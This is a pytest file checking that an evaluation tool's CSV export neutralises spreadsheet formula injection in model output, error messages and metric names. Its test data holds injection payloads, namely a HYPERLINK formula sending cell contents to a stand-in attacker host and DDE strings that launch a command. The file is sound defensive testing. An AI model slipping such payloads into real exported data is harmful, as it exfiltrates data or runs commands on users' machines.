"""CSV exports are opened in spreadsheets: text that a spreadsheet would run as a formula
(model output, a grader's error message) must arrive as text, also where a spreadsheet in
another locale splits a cell (``;``, ``|``, tabs), and every field is quoted."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from evalkube import limits
from evalkube.reporting import samples
from evalkube.reporting.export import csv_row, write_csv

STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def runnable_pieces(cell: str) -> list[str]:
    """The pieces of a cell, split where a spreadsheet may split it, that it would run."""
    pieces = [p.lstrip(" ") for p in re.split(r"[,;\t|\r\n]", cell)]
    return [p for p in pieces if p.startswith(STARTS) and not re.fullmatch(r"[+-]?[\d.]+", p)]


HOSTILE = [
    '=HYPERLINK("http://attacker.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_in_model_output_or_an_error_is_written_as_text(text: str) -> None:
    view = {
        "sample_id": "s1",
        "output_text": text,
        "target": text,
        "error": {"message": text, "type": "ValueError", "stage": "grading"},
        "scores": {"em": 0.0},
    }
    out = io.StringIO()
    write_csv([view], out, ["em"])
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    for column in ("output_text", "target", "error_message"):
        assert row[column].startswith("'"), column
        assert row[column].replace("'", "") == text.replace("'", ""), column
        assert runnable_pieces(row[column]) == [], column


AFTER_SEPARATORS = [
    'total;=HYPERLINK("http://attacker.example/?q="&A1,"click")',
    "ok, +cmd|' /C calc'!A0",
    "a|@SUM(1+1)*cmd|' /C calc'!A0",
    "x\t=1+1",
    "line one\n-2+3+cmd|' /C calc'!A0",
    "fine;   =1+1",
    "\uff1dHYPERLINK(1)",
]


@pytest.mark.parametrize("text", AFTER_SEPARATORS)
def test_a_formula_after_a_separator_is_written_as_text(text: str) -> None:
    out = io.StringIO()
    write_csv([{"sample_id": "s1", "output_text": text, "judge": {"note": text}}], out, [])
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    for column in ("output_text", "judge"):
        assert runnable_pieces(row[column]) == [], (column, row[column])
    assert row["output_text"].replace("'", "") == text.replace("'", "")


def test_every_field_is_quoted() -> None:
    out = io.StringIO()
    write_csv([{"sample_id": "s1", "status": "valid", "scores": {"em": 1.0}}], out, ["em"])
    for line in out.getvalue().splitlines():
        fields = line.split('","')
        assert line.startswith('"'), line
        assert line.endswith('"'), line
        assert len(fields) > 10


@pytest.mark.parametrize("number", ["-3", "+1.5e3", "-0.25", "42", "-.5"])
def test_plain_numbers_and_scores_are_left_alone(number: str) -> None:
    cells = csv_row({"target": number, "scores": {"delta": -0.5}}, ["delta"])
    assert number in cells
    assert "-0.5" in cells


def test_ordinary_text_is_unchanged() -> None:
    cells = csv_row({"output_text": "a = b + c", "target": "'quoted'"}, [])
    assert "a = b + c" in cells
    assert "'quoted'" in cells


@pytest.mark.parametrize(
    "metric",
    [
        'x;=HYPERLINK("http://attacker.example/?q="&A1,"click")',
        "a,+cmd|' /C calc'!A0",
        "m|@SUM(1+1)",
        "n\t=1+1",
        "l\n-2+3+cmd|' /C calc'!A0",
        "k; \uff1dHYPERLINK(1)",
    ],
)
def test_a_formula_in_a_metric_name_is_written_as_text_in_the_header(metric: str) -> None:
    """Metric names are a grader's choice and become ``score:NAME`` header cells."""
    out = io.StringIO()
    write_csv([{"sample_id": "s1", "status": "valid", "scores": {metric: 1.0}}], out, [metric])
    header = next(csv.reader(io.StringIO(out.getvalue())))
    column = next(h for h in header if h.startswith("score:"))
    assert runnable_pieces(column) == [], column
    assert column.replace("'", "") == f"score:{metric}".replace("'", "")
    assert out.getvalue().split("\r\n", 1)[0].startswith('"')


def test_score_columns_stop_at_their_cap_with_a_warning(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Graders choose metric names: a CSV does not grow a column per name without bound."""
    names = sorted(f"m{i:05d}" for i in range(limits.CSV_SCORE_COLUMNS_MAX + 500))
    view = {"sample_id": "s1", "task_id": "t", "model": "m", "scores": {names[-1]: 1.0}}
    out = tmp_path / "samples.csv"
    samples._write(iter([view]), "csv", out, names)
    with out.open() as handle:
        header = next(csv.reader(handle))
    assert sum(c.startswith("score:") for c in header) == limits.CSV_SCORE_COLUMNS_MAX
    assert "more than 1,000 metric names" in " ".join(capsys.readouterr().err.split())
